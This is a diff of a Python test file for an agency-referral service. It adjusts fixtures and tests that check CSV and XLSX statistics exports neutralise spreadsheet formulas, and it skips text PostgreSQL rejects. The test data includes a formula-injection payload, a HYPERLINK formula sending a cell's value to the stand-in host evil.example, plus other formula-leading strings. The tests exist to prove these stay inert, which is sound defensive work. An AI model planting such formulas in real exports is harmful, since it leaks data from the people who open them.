@@ -58,11 +58,16 @@ def hostile_agencies(world: World) -> list[str]:
     """Agencies named with hostile text, written past the store's cleaning as an old
     database or a direct edit would have them, each with one referral."""
     case = world.new_case(name="통계대상")
+    # PostgreSQL refuses a NUL in text outright, as SQLite does a lone surrogate, and holds
+    # a column to its declared length (an agency name: 200).
+    storable = [
+        t for t in STORABLE if not (world.store.is_server and ("\x00" in t or len(t) > 200))
+    ]
     with world.store.sessions.begin() as s:
         codes = list(s.scalars(select(models.Agency.code).order_by(models.Agency.id)))[
-            : len(STORABLE)
+            : len(storable)
         ]
-        for code, name in zip(codes, STORABLE, strict=True):
+        for code, name in zip(codes, storable, strict=True):
             s.execute(update(models.Agency).where(models.Agency.code == code).values(name=name))
     for code in codes[:3]:
         world.c1.consents.record(case.id, consent(code))
@@ -76,8 +81,9 @@ def test_statistics_csv_never_carries_a_formula(world: World, hostile_agencies) 
     _assert_inert(cells)
     for text in FORMULAS:  # labels are printed stripped of surrounding blanks
         assert "'" + text.strip() in cells, text
-    assert "서울\n센터" in cells and "널문자" in cells
-    assert "가" * 5000 in cells
+    assert "서울\n센터" in cells
+    if not world.store.is_server:  # text PostgreSQL cannot hold (see hostile_agencies)
+        assert "널문자" in cells and "가" * 5000 in cells
 
 
 def test_statistics_xlsx_opens_with_text_as_typed_and_no_formula(world, hostile_agencies):
@@ -91,8 +97,9 @@ def test_statistics_xlsx_opens_with_text_as_typed_and_no_formula(world, hostile_
     cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
     for text in ('=HYPERLINK("http://evil.example/?x="&A1,"보기")', "+1", "-2", "@SUM(A1:A9)"):
         assert cells[text].data_type == "s" and cells[text].quotePrefix, text
-    assert "서울\n센터" in cells and "널문자" in cells
-    assert "뒤집힌 이름" in cells and "<b>&amp;</b>" in cells and "가" * 5000 in cells
+    assert "서울\n센터" in cells and "뒤집힌 이름" in cells and "<b>&amp;</b>" in cells
+    if not world.store.is_server:  # text PostgreSQL cannot hold (see hostile_agencies)
+        assert "널문자" in cells and "가" * 5000 in cells
     assert cells["<5"].data_type == "s"  # a hidden count stays the text it is
 
 
